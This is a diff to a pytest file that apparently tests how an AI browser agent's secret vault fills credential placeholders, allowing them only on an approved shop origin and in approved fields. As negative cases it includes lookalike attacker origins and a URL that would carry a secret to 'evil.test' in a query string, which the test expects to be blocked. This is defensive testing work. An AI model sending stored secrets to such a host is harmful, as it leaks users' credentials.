@@ -9,7 +9,7 @@ import pytest
 
 from cdp_engine.agent.models import Answered, Asked, Said, ToolCall
 from cdp_engine.agent.tasks import History, Secret, Turn, Vault
-from cdp_engine.agent.tasks.vault import origin_of
+from cdp_engine.agent.vault import origin_of
 from cdp_engine.agent.toolbox import Picture
 from cdp_engine.errors import InvalidInput, NotAllowed
 
@@ -106,8 +106,8 @@ def test_words_without_a_tool_stay_in_their_order() -> None:
 def test_a_secret_is_filled_in_only_where_it_may_be_typed() -> None:
     vault = Vault([Secret("pass", "s3cret-word", (SHOP,))])
     said = {"ref": "e1", "text": "x${secret:pass}y"}
-    assert vault.filled("fill", said, f"{SHOP}/login")["text"] == "xs3cret-wordy"
-    assert vault.filled("type", said, "https://SHOP.example:443/")["text"] == "xs3cret-wordy"
+    assert vault.filled(said, "text", f"{SHOP}/login")["text"] == "xs3cret-wordy"
+    assert vault.filled(said, "text", "https://SHOP.example:443/")["text"] == "xs3cret-wordy"
     for url in (
         "http://shop.example",
         "https://shop.example.evil.test",
@@ -116,16 +116,18 @@ def test_a_secret_is_filled_in_only_where_it_may_be_typed() -> None:
         "",
     ):
         with pytest.raises(NotAllowed):
-            vault.filled("fill", said, url)
-    for tool, arguments in (
-        ("navigate", {"url": "https://evil.test/?${secret:pass}"}),
-        ("evaluate", {"expression": "'${secret:pass}'"}),
-        ("fill", {"ref": "e1", "text": "x", "expect": "${secret:pass}"}),
+            vault.filled(said, "text", url)
+    for place, arguments in (
+        ("", {"url": "https://evil.test/?${secret:pass}"}),
+        ("", {"arguments": {"deep": ["'${secret:pass}'"]}}),
+        ("text", {"ref": "e1", "text": "x", "expect": "${secret:pass}"}),
     ):
         with pytest.raises(NotAllowed):
-            vault.filled(tool, arguments, SHOP)
+            vault.filled(arguments, place, SHOP)
+    chosen = vault.filled({"ref": "e1", "values": ["a", "${secret:pass}"]}, "values", SHOP)
+    assert chosen["values"] == ["a", "s3cret-word"]
     with pytest.raises(InvalidInput, match="no secret 'other'"):
-        vault.filled("fill", {"ref": "e1", "text": "${secret:other}"}, SHOP)
+        vault.filled({"ref": "e1", "text": "${secret:other}"}, "text", SHOP)
 
 
 @pytest.mark.req("EX-09")
